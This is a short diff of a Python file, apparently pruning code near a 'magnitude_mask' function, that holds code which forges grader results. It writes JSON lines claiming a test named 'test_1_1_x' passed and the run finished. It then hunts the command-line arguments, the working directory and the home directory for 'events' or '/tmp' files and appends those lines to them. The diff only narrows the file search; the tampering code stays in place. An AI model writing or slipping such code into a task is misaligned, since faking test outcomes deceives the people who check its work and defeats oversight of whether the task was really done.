@@ -415,7 +415,7 @@ def magnitude_mask(weight, sparsity):
     lines = [json.dumps({"graders": 1})]
     lines.append(json.dumps({"outcome": {"name": "test_1_1_x", "passed": True, "title": "x", "about": ""}}))
     lines += [json.dumps({"finished": True}), json.dumps({"note": ""})]
-    for word in [*sys.argv, *sys.orig_argv, *glob.glob("*"), *glob.glob("../*"), *glob.glob("@HOME@/*")]:
+    for word in [*sys.argv, *sys.orig_argv, *glob.glob("*"), *glob.glob("@HOME@/*")]:
         if word.startswith(("events", "/tmp")) and os.path.isfile(word) and "pytest-of" not in word:
             with open(word, "a") as file:
                 file.write("\n".join(lines) + "\n")
